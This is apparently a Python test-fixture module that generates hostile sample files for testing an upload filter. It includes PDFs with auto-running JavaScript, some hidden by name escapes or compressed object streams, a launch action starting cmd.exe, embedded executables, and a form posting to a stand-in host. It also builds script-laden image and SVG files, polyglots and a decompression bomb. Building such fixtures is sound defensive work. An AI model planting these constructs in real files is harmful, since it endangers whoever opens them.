"""Hostile sample files, generated: nothing binary is kept in the repository.

``hostile_folder(path)`` writes every sample into a folder, as an attacker would have
them on disk; the builders are usable one by one. PDFs are written object by object
with a correct cross-reference table, so each one parses and is refused for what it
carries, not for being broken (except the one cut short on purpose).
"""

import io
import struct
import zlib
from pathlib import Path

from PIL import Image
from pypdf import PdfWriter

HTML_PAYLOAD = b"<html><body><script>alert(document.cookie)</script></body></html>"
EXE_BYTES = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 44
    + b"\x80\x00\x00\x00"
    + b"This program cannot be run in DOS mode.\r\r\n$"
    + b"\x00" * 64
    + b"PE\x00\x00"
)
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def pdf_build(catalog: bytes, *extra: bytes, page: bytes = PAGE) -> bytes:
    """A PDF of objects 1 (catalog), 2 (pages), 3 (the page), then ``extra`` as 4, 5 …"""
    objects = [catalog, PAGES, page, *extra]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def _stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (entries, len(data), data)


def pdf_clean() -> bytes:
    """A harmless one-page PDF with a plain web link: accepted as it is."""
    content = _stream(b"BT /F1 12 Tf 72 770 Td (Signed and stamped) Tj ET")
    page = (
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
        b"/Annots[5 0 R]/Resources<</Font<</F1<</Type/Font/Subtype/Type1"
        b"/BaseFont/Helvetica>>>>>>>>"
    )
    link = (
        b"<</Type/Annot/Subtype/Link/Rect[72 700 300 720]"
        b"/A<</S/URI/URI(https://www.mofcom.gov.cn/)>>>>"
    )
    return pdf_build(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]>>", content, link, page=page
    )


def pdf_open_action_javascript() -> bytes:
    """/OpenAction running JavaScript as the document opens."""
    return pdf_build(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        b"<</Type/Action/S/JavaScript/JS(app.alert\\('pwned'\\);)>>",
    )


def pdf_open_action_javascript_escaped() -> bytes:
    """The same with the names spelt in #xx escapes, which a byte search would miss."""
    return pdf_build(
        b"<</Type/Catalog/Pages 2 0 R/Open#41ction 4 0 R>>",
        b"<</Type/Action/S/J#61va#53cript/J#53(app.alert\\(1\\))>>",
    )


def pdf_javascript_in_object_stream() -> bytes:
    """The JavaScript action compressed inside an object stream (PDF 1.5), listed by a
    cross-reference stream: nothing of it shows in the raw bytes."""
    action = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
    packed = zlib.compress(b"4 0\n" + action)
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    plain = {
        1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        2: PAGES,
        3: PAGE,
        5: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream"
        % (len(packed), packed),
    }
    for number, body in plain.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    offsets[6] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3)]
    rows += [struct.pack(">BIH", 2, 5, 0)]  # object 4: first in stream 5
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (5, 6)]
    table = b"".join(rows)
    out += b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>\nstream\n" % len(table)
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[6]
    return bytes(out)


def pdf_page_additional_action_js() -> bytes:
    """A page /AA whose action names no /S JavaScript but carries a /JS script."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/AA<</O 4 0 R>>>>"
    return pdf_build(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</S/Rendition/OP 0/JS(this.exportDataObject\\({cName:'a'}\\))>>",
        page=page,
    )


def pdf_launch() -> bytes:
    """A launch action that starts a program."""
    return pdf_build(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
        b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc.exe)>>>>",
    )


def pdf_embedded_executable() -> bytes:
    """An executable in the document's /EmbeddedFiles name tree."""
    return pdf_build(
        b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(setup.exe) 4 0 R]>>>>>>",
        b"<</Type/Filespec/F(setup.exe)/UF(setup.exe)/EF<</F 5 0 R>>>>",
        _stream(EXE_BYTES, b"/Type/EmbeddedFile/Subtype/application#2Fx-msdownload"),
    )


def pdf_file_attachment_annotation() -> bytes:
    """A file hung on the page as a /FileAttachment annotation."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[4 0 R]>>"
    return pdf_build(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 20 20]/FS 5 0 R>>",
        b"<</Type/Filespec/F(invoice.exe)/EF<</F 6 0 R>>>>",
        _stream(EXE_BYTES, b"/Type/EmbeddedFile"),
        page=page,
    )


def pdf_submit_form() -> bytes:
    """A form whose button sends the fields to another site."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[4 0 R]>>"
    return pdf_build(
        b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[4 0 R]>>>>",
        b"<</Type/Annot/Subtype/Widget/FT/Btn/T(send)/Rect[0 0 90 20]"
        b"/A<</S/SubmitForm/F<</FS/URL/F(https://collector.example.net/)>>>>>>",
        page=page,
    )


def pdf_xfa_form() -> bytes:
    """An XFA form (its own scripting and submission model)."""
    return pdf_build(
        b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[]/XFA 4 0 R>>>>",
        _stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>'),
    )


def pdf_javascript_uri() -> bytes:
    """A link whose address is javascript:."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Annots[4 0 R]>>"
    return pdf_build(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Annot/Subtype/Link/Rect[0 0 90 20]/A<</S/URI/URI(javascript:alert\\(1\\))>>>>",
        page=page,
    )


def pdf_truncated() -> bytes:
    """A real PDF cut short in transfer: no cross-reference table, no end."""
    whole = pdf_clean()
    return whole[: len(whole) * 2 // 3]


def pdf_encrypted() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    writer.encrypt(user_password="secret", owner_password="owner")  # noqa: S106 - a sample
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def jpeg_with_metadata(*, orientation: int = 1, size: tuple[int, int] = (120, 80)) -> bytes:
    """A photo-like JPEG with EXIF (camera, GPS, orientation) and a comment."""
    image = Image.new("RGB", size, (200, 30, 30))
    image.paste((30, 30, 200), (0, 0, size[0] // 2, size[1] // 4))  # a mark top-left
    exif = Image.Exif()
    exif[0x010F] = "EvilCam"  # Make
    exif[0x0131] = "<script>alert(1)</script>"  # Software
    exif[0x0112] = orientation
    exif[0x8825] = {1: "N", 2: (39.0, 54.0, 27.0), 3: "E", 4: (116.0, 23.0, 29.0)}  # GPS
    out = io.BytesIO()
    image.save(out, "JPEG", quality=92, exif=exif, comment=HTML_PAYLOAD)
    return out.getvalue()


def jpeg_html_polyglot() -> bytes:
    """A JPEG that is also an HTML page: metadata as above, the page appended."""
    return jpeg_with_metadata() + HTML_PAYLOAD


def png_with_text() -> bytes:
    """A PNG carrying text chunks and an HTML tail."""
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", HTML_PAYLOAD.decode())
    info.add_text("Author", "张伟 110101199003077777")
    out = io.BytesIO()
    Image.new("RGB", (64, 64), (0, 128, 0)).save(out, "PNG", pnginfo=info)
    return out.getvalue() + HTML_PAYLOAD


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


def png_bomb(width: int = 20_000, height: int = 20_000) -> bytes:
    """A one-colour 1-bit PNG of ``width`` × ``height`` pixels, a few tens of kB on disk."""
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", data)
        + _png_chunk(b"IEND", b"")
    )


def svg() -> bytes:
    return (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" '
        b'height="100" onload="alert(document.domain)"><script>fetch("/my/")</script>'
        b'<rect width="100" height="100" fill="red"/></svg>\n'
    )


def html_page() -> bytes:
    return b"<!DOCTYPE html>\n" + HTML_PAYLOAD


# name on disk → builder; the name is what an attacker would call it.
SAMPLES = {
    "openaction-javascript.pdf": pdf_open_action_javascript,
    "openaction-javascript-escaped.pdf": pdf_open_action_javascript_escaped,
    "javascript-in-object-stream.pdf": pdf_javascript_in_object_stream,
    "page-aa-javascript.pdf": pdf_page_additional_action_js,
    "launch.pdf": pdf_launch,
    "embedded-executable.pdf": pdf_embedded_executable,
    "file-attachment.pdf": pdf_file_attachment_annotation,
    "submit-form.pdf": pdf_submit_form,
    "xfa-form.pdf": pdf_xfa_form,
    "javascript-link.pdf": pdf_javascript_uri,
    "truncated.pdf": pdf_truncated,
    "encrypted.pdf": pdf_encrypted,
    "polyglot.jpg": jpeg_html_polyglot,
    "text-chunks.png": png_with_text,
    "bomb-20000x20000.png": png_bomb,
    "drawing.svg": svg,
    "setup.exe.pdf": lambda: EXE_BYTES,
    "page.html.jpg": html_page,
}


def hostile_folder(path: Path) -> dict[str, Path]:
    """Write every sample into ``path``; returns name → file."""
    path.mkdir(parents=True, exist_ok=True)
    written = {}
    for name, build in SAMPLES.items():
        target = path / name
        target.write_bytes(build())
        written[name] = target
    return written
